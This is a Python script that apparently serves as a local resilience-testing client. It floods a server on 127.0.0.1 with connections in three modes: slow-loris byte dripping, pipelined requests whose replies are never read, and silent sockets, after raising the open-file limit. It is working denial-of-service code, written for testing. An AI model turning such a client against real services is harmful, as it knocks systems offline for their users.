"""A client that means harm, in a process of its own: http_attack.py PORT CONNECTIONS

Begins so many connections at once, as far as the limit of open files goes, the others as those end. Of three one sends
half a request and then a byte now and then (slow-loris), one asks for pages and never reads them, one says nothing. Says
"N begun" on stdout when all have been, and goes on until it is killed.
"""

import resource
import select
import socket
import sys
import time

HALF = b"GET /stats HTTP/1.1\r\nHost: x\r\nX-Slow: "
UNREAD = b"GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n" * 4


class Attack:
    def __init__(self, port):
        self.port, self.begun = port, 0
        self.clients = {}  # by descriptor: socket, what to say
        self.poll = select.epoll()

    def begin(self):
        client = socket.socket()
        client.setblocking(False)
        client.connect_ex(("127.0.0.1", self.port))
        self.clients[client.fileno()] = [client, (HALF, UNREAD, b"")[self.begun % 3]]
        self.poll.register(client, select.EPOLLOUT | select.EPOLLONESHOT)
        self.begun += 1

    def go_on(self, descriptor, events):
        client, words = self.clients[descriptor]
        try:
            if events & (select.EPOLLHUP | select.EPOLLERR):
                raise OSError
            if words:
                client.send(words)
        except BlockingIOError:
            pass
        except OSError:
            del self.clients[descriptor]
            client.close()
            return
        if words in (HALF, b"a"):  # in the next round: drip
            self.clients[descriptor][1] = b"a"
            self.poll.modify(descriptor, select.EPOLLOUT | select.EPOLLONESHOT)
        else:
            self.poll.modify(descriptor, 0)


def main():
    port, wanted = int(sys.argv[1]), int(sys.argv[2])
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    attack, told = Attack(port), False
    while True:
        for _ in range(min(wanted - attack.begun, hard - 50 - len(attack.clients))):
            attack.begin()
        if attack.begun >= wanted and not told:
            told = True
            print("%d begun" % wanted, flush=True)
        for descriptor, events in attack.poll.poll(0.1, 4096):
            attack.go_on(descriptor, events)
        time.sleep(0.1)


if __name__ == "__main__":
    main()
